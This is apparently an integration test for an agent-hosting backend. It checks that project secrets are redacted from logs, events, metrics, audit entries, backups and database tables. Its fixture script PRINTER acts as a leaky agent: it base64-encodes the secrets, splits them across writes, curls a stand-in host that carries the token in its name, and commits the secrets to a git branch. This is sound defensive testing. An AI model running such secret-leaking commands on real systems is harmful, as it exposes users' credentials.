import { expect, test } from "bun:test";
import { existsSync, readdirSync } from "node:fs";
import { join } from "node:path";
import { readConfig } from "../../src/config/config.ts";
import { openDatabase } from "../../src/db/client.ts";
import { createLogger } from "../../src/observability/logger.ts";
import {
  type Combination,
  createDeployment,
  runProgram,
  startBackend,
  startWorker,
} from "../harness/backend.ts";
import { freePort } from "../harness/machine.ts";
import type { RunningProcess } from "../harness/process.ts";
import { makeRepository } from "../harness/repository.ts";
import { describeWith } from "../harness/services.ts";
import { until } from "../harness/until.ts";
import {
  allReplies,
  FORMS,
  type Found,
  filesOf,
  inClear,
  listen,
  SECOND,
  TOKEN,
  tablesOf,
} from "./secret-search.ts";

const LIMIT_MS = 300_000;
const WAIT_MS = 120_000;

const SETUP = 'echo "setting up $TOKEN"; printf %s "$SECOND" | base64 >&2';

/** Prints its secrets in each way that lines have, commits them and fails. */
const PRINTER = `
cat >/dev/null
A=$(printf %s "$TOKEN" | cut -c1-12) B=$(printf %s "$TOKEN" | cut -c13-)
J=$(printf %s "$SECOND" | sed 's/[\\\\"]/\\\\&/g')
say() { printf '{"type":"assistant","message":{"role":"assistant","content":[{"type":"text","text":"%s"}]}}\\n' "$1"; }
echo "plain $TOKEN $SECOND"
printf %s "$TOKEN" | base64
printf 'me:%s' "$SECOND" | base64
printf 'two writes %s' "$A"; sleep 0.2; printf '%s\\n' "$B"
printf 'two lines %s\\n%s\\n' "$A" "$B"
say "in JSON $J"
say "two lines in JSON $A\\\\n$B"
printf '{"type":"user","message":{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":"a result: %s"}]}}\\n' "$J"
curl -s -m 5 -o /dev/null -x "$HTTPS_PROXY" "http://$TOKEN.example.invalid/" || true
echo "$TOKEN" >"\${AGENT_STATE_DIR:-.}/kept.txt"
git checkout -q -b "leak-$TOKEN"
echo "$SECOND" > leaked.txt
git add -A
git -c user.name="$TOKEN" -c user.email=a@b commit -qm "Uses $TOKEN"
echo "on stderr $TOKEN $SECOND" >&2
`;

test("the search finds each form", () => {
  for (const form of FORMS) expect(inClear(`before ${form} after`)).not.toEqual([]);
});

for (const combination of ["embedded", "postgres"] as const)
  if (combination === "embedded") tests(combination);
  else describeWith(combination, `secrets (${combination})`, () => tests(combination));

function tests(combination: Combination) {
  test(
    `${combination}: a project's secret is in its agent's environment, and nowhere else in clear`,
    async () => {
      const source = await Bun.file(join(import.meta.dir, "secret-acp-program.ts")).text();
      const program = new Bun.Transpiler({ loader: "ts", target: "bun" }).transformSync(source);
      const AGENTS = JSON.stringify([
        { name: "printer", title: "Printer", command: ["sh", "-c", PRINTER], protocol: "lines" },
        { name: "failing", title: "Failing", command: ["sh", "-c", `${PRINTER}exit 3`], protocol: "lines" },
        {
          ...{ name: "clean", title: "Clean", protocol: "lines" },
          command: ["sh", "-c", 'cat >/dev/null; echo "done with $TOKEN"; echo fine > fine.txt'],
        },
        { name: "talker", title: "Talker", command: [process.execPath, "-e", program], protocol: "acp" },
      ]);
      await using deployment = await createDeployment(combination);
      const env = {
        AGENTS,
        AGENT: "demo",
        EGRESS: "list",
        EGRESS_ALLOW: "registry.example",
        LOG_LEVEL: "debug",
      };
      const metricsPort = await freePort();
      const apart = combination !== "embedded";
      await using stack = new AsyncDisposableStack();
      const printed: (readonly string[])[] = [];
      const kept = <P extends RunningProcess>(running: P): P => {
        printed.push(running.lines);
        return stack.use(running);
      };
      const serve = async () => {
        const started = await startBackend(deployment, { env, ...(apart && { args: ["server"] }) });
        kept(started.process);
        return started;
      };
      const work = async () =>
        kept(await startWorker(deployment, ["bg-tasks"], { ...env, METRICS_PORT: `${metricsPort}` }));
      let backend = await serve();
      let worker = apart ? await work() : undefined;
      const logs = () => printed.flat().join("\n");
      const repository = await makeRepository();
      const stranger = listen(backend, "/events");

      const project = { repo: repository.path, setup_command: SETUP, secrets: { TOKEN, SECOND } };
      const made = await backend.request("POST", "/projects", project);
      expect(made).toMatchObject({ status: 200 });
      const begin = async (agent: string, more: object = {}) => {
        const one = await backend.submit(repository.path, "Show it.", { agent, ...more });
        return { ...one, agent, stream: listen(backend, `/sessions/${one.sessionId}/events`) };
      };
      const runs = [
        await begin("printer"),
        await begin("failing"),
        await begin("clean"),
        await begin("talker", { mode: "ask" }),
      ] as const;
      const talker = runs[3];
      const questions = async () =>
        (await backend.request("GET", `/sessions/${talker.sessionId}/permissions`)).body.permissions;
      const [question] = await until(async () => ((await questions()).length > 0 ? questions() : undefined), {
        what: "a question",
        timeoutMs: WAIT_MS,
      });
      for (const { sessionId } of runs.slice(0, 3))
        await backend.waitForStatus(sessionId, "NeedsReviewIpReturned", WAIT_MS);
      const metricsOf = async (url: string) => (await fetch(new URL("/metrics", url))).text();
      const ofWorker = await metricsOf(apart ? `http://127.0.0.1:${metricsPort}` : backend.url);
      expect(ofWorker).toContain('prompt_backend_setup_duration_seconds_count{outcome="done"} 4');
      expect(ofWorker).toContain("prompt_backend_work_refused_total 2");
      expect(ofWorker).toMatch(/prompt_backend_secrets_redacted_total [1-9]\d/);

      // Its agent goes on with what it was given, and whoever adopts it finds other values in the project.
      const change = { secrets: { TOKEN: "another-Value-1", SECOND: null } };
      expect(await backend.request("PUT", `/projects/${made.body.id}`, change)).toMatchObject({
        status: 200,
      });
      const runner = worker ?? backend.process;
      runner.kill("SIGKILL");
      await runner.exit;
      if (apart) worker = await work();
      else backend = await serve();

      const steered = await backend.request("POST", `/prompts/${talker.promptId}/steer`, {
        text: "Tell me.",
      });
      expect(steered).toMatchObject({ status: 200 });
      const answered = await backend.request("POST", `/permissions/${question.id}/answer`, {
        decision: "allow",
      });
      expect(answered).toMatchObject({ status: 200 });
      for (const { sessionId } of runs)
        await backend.waitForStatus(sessionId, "NeedsReviewIpReturned", WAIT_MS);

      // It was all printed: what is missed below was replaced, not left out.
      const texts: Record<string, string> = {};
      for (const { agent, promptId } of runs)
        texts[agent] = JSON.stringify([
          await backend.messages(promptId),
          (await backend.request("GET", `/prompts/${promptId}`)).body,
        ]);
      const marks = (agent: string, ...all: string[]) => {
        for (const one of all) expect(texts[agent]).toContain(one);
      };
      for (const agent of ["printer", "failing"])
        marks(
          agent,
          "setting up [secret TOKEN]",
          "plain [secret TOKEN] [secret SECOND]",
          "two writes [secret TOKEN]",
          "two lines [secret TOKEN]\\n[secret TOKEN]",
          "in JSON [secret SECOND]",
          "two lines in JSON [secret TOKEN]\\n[secret TOKEN]",
          "a result: [secret SECOND]",
          "[secret TOKEN].example.invalid",
          "TOKEN in a commit message",
          "SECOND in leaked.txt",
        );
      marks("failing", "on stderr [secret TOKEN] [secret SECOND]");
      marks("clean", "done with [secret TOKEN]", "was pushed");
      marks(
        "talker",
        "one chunk [secret TOKEN]",
        "two messages [secret TOKEN]",
        "use [secret TOKEN]",
        "result [secret TOKEN] [secret SECOND]",
        "you said so: [secret TOKEN]",
      );

      const found: Found = {};
      const search = (some: Record<string, string>) => {
        for (const [where, text] of Object.entries(some)) {
          const forms = inClear(text);
          if (forms.length > 0) found[where] = forms;
        }
      };
      const prompts = runs.map(({ promptId }) => promptId);
      const messages = (await Promise.all(prompts.map((id) => backend.messages(id)))).flat();
      const replies = await allReplies(backend, {
        sessions: runs.map(({ sessionId }) => sessionId),
        prompts,
        projects: [made.body.id],
        permissions: [question.id],
        messages: messages.map(({ id }) => id),
      });
      expect(Object.keys(replies).filter((one) => one.endsWith(" 200")).length).toBeGreaterThan(30);
      search(replies);
      const { entries } = (await backend.request("GET", "/audit?action=branch.refuse")).body;
      const { TOKEN: token, SECOND: second } = entries[0].detail.secrets;
      expect([token, second]).toEqual([["a commit message"], ["leaked.txt"]]);
      expect(entries.map(({ target }: { target: string }) => target).toSorted()).toEqual(
        prompts
          .slice(0, 2)
          .map((id) => `prompt:${id}`)
          .toSorted(),
      );
      search({ "refusals in the audit log": JSON.stringify(entries) });
      search({ metrics: await metricsOf(backend.url), "metrics of the worker": ofWorker });
      for (const { agent, stream } of runs) {
        await until(() => stream.heard.text.includes("[secret TOKEN]"), { what: `events of ${agent}` });
        await stream.stop();
        search({ [`events of ${agent}`]: stream.heard.text });
      }
      await stranger.stop();
      search({ "events of all": stranger.heard.text });

      const cwd = deployment.folder;
      const programEnv = { ...deployment.env, ...env };
      const shown = async (...args: string[]) => {
        const { stdout, stderr } = await runProgram(args, { cwd, env: programEnv });
        search({ [args.join(" ")]: stdout + stderr });
        return stdout;
      };
      await shown("doctor");
      expect(await shown("print-openapi")).toContain("handlers_projects_create");

      const copy = join(deployment.folder, "copy");
      if (combination === "embedded") {
        const file = join(deployment.folder, "backup.tar.gz");
        await shown("backup", file);
        await Bun.$`mkdir ${copy}.files && tar --extract --gzip --file=${file} --directory=${copy}.files`;
        Object.assign(found, await filesOf(`${copy}.files`));
        const restore = await runProgram(["restore", file], { cwd, env: { ...programEnv, DATA_DIR: copy } });
        expect(restore.code, restore.stderr).toBe(0);
      } else {
        const url = String(deployment.env["DATABASE_URL"]);
        search({ "the dump": await Bun.$`pg_dump ${url}`.text() });
      }
      backend.process.kill("SIGTERM");
      worker?.kill("SIGTERM");
      await Promise.all([backend.process.exit, worker?.exit]);
      expect(await shown("doctor", "--json")).toContain("one key opens all of them");
      search({ logs: logs() });
      expect(logs()).toContain(runs[0].promptId);
      // Journals, checkouts and what the database writes beside its tables: nothing is left but the key.
      Object.assign(found, await filesOf(deployment.dataDir));
      expect(readdirSync(join(deployment.dataDir, "sandboxes"))).toEqual([]);
      if (existsSync(copy)) Object.assign(found, await filesOf(copy));
      const config = readConfig({ ...programEnv, ...(existsSync(copy) && { DATA_DIR: copy }) });
      const database = await openDatabase({ config, logger: createLogger({ level: "silent" }) });
      search(await tablesOf(database.orm));
      await database.close();
      expect(await repository.branches()).toHaveLength(2);
      expect(found).toEqual({});
      await repository.remove();
    },
    LIMIT_MS,
  );
}
